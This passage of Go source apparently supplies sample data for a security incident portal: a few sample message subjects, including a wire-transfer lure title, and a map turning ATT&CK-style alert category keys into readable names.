	"RE: Wire transfer <urgent> – updated bank details",
	"Voicemail from +1 206 555 0147 (00:42)",
}

// categoryNames are how the portal words alert categories in incident names.
var categoryNames = map[string]string{
	"InitialAccess": "Initial access", "Execution": "Execution", "Persistence": "Persistence",
	"PrivilegeEscalation": "Privilege escalation", "DefenseEvasion": "Defense evasion",
	"CredentialAccess": "Credential access", "Discovery": "Discovery", "LateralMovement": "Lateral movement",
	"Collection": "Collection", "CommandAndControl": "Command and control", "Exfiltration": "Exfiltration",
	"Impact": "Impact", "Malware": "Malware", "Ransomware": "Ransomware", "SuspiciousActivity": "Suspicious activity",
}
